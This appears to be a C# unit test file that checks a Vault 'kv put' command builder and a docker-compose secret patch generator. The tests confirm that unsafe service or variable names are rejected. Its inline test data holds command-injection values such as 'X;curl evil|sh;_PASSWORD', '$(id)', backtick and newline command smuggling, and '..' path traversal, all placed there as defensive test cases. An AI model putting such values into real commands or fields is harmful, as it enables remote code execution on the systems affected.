using Sevensa.Dashboard.Features.Secrets.Exposures;

namespace Sevensa.Dashboard.Tests.Features.Secrets.Exposures;

/// <summary>A command that people copy into their shell is made of plain words only.</summary>
public class PutCommandTests
{
    [Fact]
    public void Of_plain_names_it_is_the_whole_command() =>
        Assert.Equal(
            "vault kv put secret/rentguy/api/db-password value=-",
            PutCommand.Of("secret", "rentguy", "api", "DB_PASSWORD")
        );

    [Theory]
    [InlineData("api", "X;curl evil|sh;_PASSWORD")]
    [InlineData("api", "X$(id)_PASSWORD")]
    [InlineData("api", "X\nid\n_PASSWORD")]
    [InlineData("api", "PASSWORD\n")]
    [InlineData("api", "a b")]
    [InlineData("api", "")]
    [InlineData("a`id`", "PASSWORD")]
    [InlineData("..", "PASSWORD")]
    public void Of_any_other_there_is_none(string service, string variable)
    {
        Assert.Null(PutCommand.Of("secret", "rentguy", service, variable));
        Assert.Null(ComposePatch.Of("rentguy", service, variable));
    }

    [Fact]
    public void The_patch_takes_the_variable_away_and_mounts_the_file_that_the_runner_lays_down() =>
        Assert.Equal(
            """
            services:
              api:
                environment:
                  DB_PASSWORD: !reset null
                  DB_PASSWORD_FILE: /run/secrets/db-password/value
                labels:
                  sevensa.secret.db-password: api/db-password
                  sevensa.secret.db-password.on-change: restart
                volumes:
                  - /run/sevensa-secrets/rentguy/api/db-password:/run/secrets/db-password:ro
            """,
            ComposePatch.Of("rentguy", "api", "DB_PASSWORD")
        );
}
